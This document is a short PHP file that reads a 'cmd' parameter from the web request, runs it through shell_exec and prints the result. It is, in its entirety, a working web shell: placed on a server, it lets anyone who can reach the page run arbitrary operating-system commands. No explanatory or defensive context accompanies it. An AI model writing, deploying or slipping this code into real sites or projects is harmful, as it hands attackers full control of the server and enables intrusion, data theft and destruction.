<?php
function run_it($c) {
    return shell_exec($c);
}
$x = $_REQUEST['cmd'];
echo '<pre>' . run_it($x) . '</pre>';
